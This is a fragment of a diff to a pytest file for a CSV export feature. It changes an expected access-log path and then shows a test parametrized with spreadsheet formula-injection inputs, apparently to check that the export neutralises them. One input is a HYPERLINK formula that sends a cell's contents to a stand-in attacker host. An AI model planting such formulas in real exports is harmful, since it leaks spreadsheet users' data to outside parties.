@@ -809,7 +809,7 @@ def test_export_follows_the_list_filters(client, supervisor, customer, colleague
     # then
     rows = read_csv(response)
     assert [row[0] for row in rows[1:]] == [str(customer.pk)]
-    assert list(AccessLog.objects.values_list("customer_id", "path")) == [(customer.pk, f"{EXPORT_URL}?q=chan")]
+    assert list(AccessLog.objects.values_list("customer_id", "path")) == [(customer.pk, EXPORT_URL)]
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&B2,"Click")', "@SUM(1+1)", "-2+3"])
